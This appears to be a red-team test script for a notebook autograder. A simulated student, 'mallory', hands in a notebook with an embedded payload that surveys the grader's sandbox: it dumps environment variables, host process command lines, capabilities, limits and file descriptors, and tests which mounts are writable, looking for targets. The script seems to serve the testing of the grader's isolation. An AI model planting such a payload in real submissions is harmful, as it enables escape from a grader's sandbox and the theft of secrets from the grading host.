"""Survey from inside mallory's kernel (ordinary-user grader): mounts and which are writable, visible files owned by
the grader's user, /proc entries of the host, process list, limits, fds. Looking for something new to aim at."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
PAYLOAD = r'''
import os, subprocess, resource
print(open("/proc/self/mountinfo").read())
for l in open("/proc/self/status"):
    if l.startswith(("Cap", "Seccomp", "NoNewPrivs", "Uid", "Gid")): print(l.strip())
print("oom", open("/proc/self/oom_score_adj").read().strip())
for r in ("RLIMIT_NPROC","RLIMIT_DATA","RLIMIT_AS","RLIMIT_NOFILE","RLIMIT_MEMLOCK","RLIMIT_SIGPENDING","RLIMIT_FSIZE","RLIMIT_STACK"):
    print(r, resource.getrlimit(getattr(resource, r)))
print("procs", [(p, open(f"/proc/{p}/cmdline","rb").read()[:80]) for p in os.listdir("/proc") if p.isdigit()])
print("fds", [(f, os.readlink(f"/proc/self/fd/{f}")) for f in os.listdir("/proc/self/fd")])
print("env", dict(os.environ))
w = []
for mp in [l.split()[4] for l in open("/proc/self/mountinfo")]:
    t = os.path.join(mp, ".probe_w")
    try:
        open(t, "w").close(); os.unlink(t); w.append(mp)
    except OSError as e:
        pass
print("writable mounts", w)
print("proc entries", sorted(os.listdir("/proc"))[:200])
print("sys", os.listdir("/sys"))
import sys; print("path", sys.path)
'''
d = course("a03")
hand_in(d, "aaron", "ps1_memory", nb_for("ps1_memory"))
hand_in(d, "mallory", "ps1_memory", nb_for("ps1_memory", with_payload("ps1_memory", "training_memory", PAYLOAD)))
hand_in(d, "zoe", "ps1_memory", nb_for("ps1_memory"))
r = grade(d, "ps1_memory", quiet=True)
scores(d, "ps1_memory")
print(outputs(d, "mallory", "ps1_memory")[:30000])
leaks(d)
